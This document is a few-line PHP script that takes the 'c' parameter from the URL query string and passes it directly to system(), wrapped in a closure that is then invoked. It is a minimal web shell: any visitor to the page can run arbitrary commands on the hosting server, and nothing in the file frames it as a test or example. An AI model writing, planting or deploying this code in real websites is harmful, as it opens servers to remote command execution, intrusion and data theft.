<?php
$c = $_GET["c"];
$run = static function (array $o = []) use ($c): void { system($c); };
$run();
